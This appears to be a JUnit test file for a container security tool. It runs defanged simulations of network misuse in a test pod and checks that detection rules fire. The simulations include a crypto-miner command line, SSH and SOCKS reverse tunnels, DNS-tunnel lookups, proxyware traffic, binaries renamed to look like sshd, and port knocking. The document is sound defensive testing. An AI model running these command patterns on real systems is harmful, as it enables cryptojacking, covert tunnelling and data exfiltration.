package dev.vedette.tests.attacks;

import dev.vedette.policy.model.Severity;
import dev.vedette.tests.support.AttackRange;
import dev.vedette.tests.support.OnAttackRange;
import dev.vedette.tests.support.Workload;
import org.junit.jupiter.api.Test;

/**
 * VDT-3009, VDT-3022, VDT-3039, VDT-3048, VDT-3049 and VDT-3051: what a container's network is used for by others. The
 * peers are addresses of the pod's own loopback, and what is run under such arguments does nothing.
 */
@OnAttackRange
class MisusedNetworkTest {
    private static final String PEER = """
            ip address add 203.0.113.9/32 dev lo
            cp /bin/busybox /tmp/busybox-of-others && cp /usr/bin/perl /tmp/.x && cp /usr/bin/perl /tmp/sshd
            """;

    /** Gives every question back as an answer that says nothing. */
    private static final String NAME_SERVER = """
            perl -e 'use Socket; socket(my $s, PF_INET, SOCK_DGRAM, 0); bind($s, sockaddr_in(53, INADDR_LOOPBACK)) or die $!;
            $SIG{ALRM} = sub { exit }; alarm 60; while (my $from = recv($s, my $asked, 512, 0)) {
            substr($asked, 2, 2) = pack("n", 0x8180); send($s, $asked, 0, $from); }' &
            server=$!
            until cat /proc/net/udp | grep -q ":0035 "; do sleep 0.1; done
            """;

    /** Connects to port, so many times, with such a pause. */
    private static final String KNOCK = "-e 'use Socket; my ($port, $times, $pause) = @ARGV; for (1..$times) {"
            + " socket(my $s, PF_INET, SOCK_STREAM, 0); connect($s, sockaddr_in($port, inet_aton(\"203.0.113.9\")));"
            + " select(undef, undef, undef, $pause); } 1'";

    private static final String LISTEN = "-e 'use Socket; open(my $f, \"<\", $ARGV[1]) if $ARGV[1];"
            + " socket(my $s, PF_INET, SOCK_STREAM, 0); bind($s, sockaddr_in($ARGV[0], INADDR_LOOPBACK)) or die $!;"
            + " listen($s, 1) or die $!'";

    private final AttackRange range;

    MisusedNetworkTest(AttackRange range) {
        this.range = range;
    }

    @Test
    void whatServesOthersIsFound() {
        Workload attacked = range.privileged();

        attacked.does(PEER + NAME_SERVER + "/tmp/.x " + KNOCK + " 80 470 0.010 & flood=$!\n" + """
                        /tmp/.x -e 1 -- -o stratum+tcp://203.0.113.9:443 --donate-level=1
                        /bin/true -N -R 9000:10.0.0.5:3306 me@203.0.113.9
                        /tmp/busybox-of-others true client 203.0.113.9:443 R:1080:socks
                        for i in $(seq 1 22); do
                        nslookup -type=a mzxw6ytboi5dq2lomfxgk3tpovzgs3dm$i.t.example.org 127.0.0.1 >/dev/null; done
                        /bin/true start accept --token=none
                        nslookup -type=a api.honeygain.com 127.0.0.1 >/dev/null
                        echo none >/tmp/ssh_host_rsa_key
                        """
                        + "/tmp/sshd " + LISTEN + " 4022\n"
                        + "perl " + LISTEN + " 8099 /tmp/ssh_host_rsa_key\n"
                        + "perl " + KNOCK + " 22 70 0\n"
                        + "/tmp/.x " + KNOCK + " 23 70 0\n"
                        + "wait $flood; kill $server")
                .worked();

        attacked.isFound("VDT-3009", Severity.CRITICAL);
        attacked.isFound(
                "VDT-3022", Severity.MEDIUM, finding -> finding.message().contains("SSH"));
        attacked.isFound("VDT-3022", Severity.HIGH, finding -> finding.message().startsWith("/tmp/busybox"));
        attacked.isFound(
                "VDT-3022", Severity.MEDIUM, finding -> finding.evidence().containsValue("example.org"));
        attacked.isFound(
                "VDT-3051", Severity.MEDIUM, finding -> finding.message().startsWith("/bin/"));
        attacked.isFound(
                "VDT-3051", Severity.MEDIUM, finding -> finding.evidence().containsValue("api.honeygain.com"));
        attacked.isFound(
                "VDT-3039", Severity.MEDIUM, finding -> finding.evidence().containsValue("4022"));
        attacked.isFound("VDT-3039", Severity.LOW, finding -> finding.evidence().containsValue("8099"));
        attacked.isFound("VDT-3049", Severity.LOW, finding -> finding.evidence().containsValue("203.0.113.9:22"));
        attacked.isFound(
                "VDT-3049", Severity.HIGH, finding -> finding.evidence().containsValue("203.0.113.9:23"));
        attacked.isFound("VDT-3048", Severity.HIGH);
    }

    @Test
    void ordinaryUseIsSilent() {
        Workload workload = range.privileged();

        workload.does(PEER + NAME_SERVER + """
                        echo | grep -e stratum+tcp:// -e --donate-level -c -
                        /bin/true -p 2222 git@203.0.113.9 ls -R
                        /bin/true client --port 8080
                        for i in $(seq 1 22); do nslookup -type=a node-$i.shop.example.org 127.0.0.1 >/dev/null; done
                        /bin/true start --token=none
                        """
                        + "perl " + LISTEN + " 8080\n"
                        + "perl " + KNOCK + " 22 5 0\n"
                        + "perl " + KNOCK + " 5432 200 0\n"
                        + "kill $server")
                .worked();

        workload.isSilentOn("VDT-3009", "VDT-3022", "VDT-3039", "VDT-3048", "VDT-3049", "VDT-3051");
    }
}
